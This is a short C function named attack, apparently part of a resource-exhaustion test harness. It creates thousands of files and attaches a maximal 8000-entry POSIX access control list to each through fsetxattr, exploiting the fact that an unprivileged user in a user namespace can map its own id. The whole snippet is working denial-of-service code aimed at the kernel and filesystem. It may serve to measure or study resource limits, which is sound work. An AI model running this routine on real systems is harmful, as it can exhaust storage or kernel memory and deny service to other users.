/* Sets the largest access control list on many files. In a user namespace only the own id is mapped. */
static void attack(void) {
    enum { FILES = 8000, ENTRIES = 8000 };
    static struct { uint32_t version; struct { uint16_t tag, rights; uint32_t id; } entry[ENTRIES]; } list = { 2 };
    for (int i = 0; i < ENTRIES; i++) { list.entry[i].tag = 2; list.entry[i].rights = 4; list.entry[i].id = getuid(); }
    list.entry[0].tag = 1;
    list.entry[ENTRIES - 3].tag = 4; list.entry[ENTRIES - 2].tag = 16; list.entry[ENTRIES - 1].tag = 32;
    int count = 0;
    for (char name[20]; count < FILES && !is_over(); count++) {
        sprintf(name, "f%d", count);
        int file = open(name, O_CREAT | O_WRONLY, 0600);
        int failed = fsetxattr(file, "system.posix_acl_access", &list, sizeof list, 0);
        close(file);
        if (failed) break;
    }
    say(count);
}
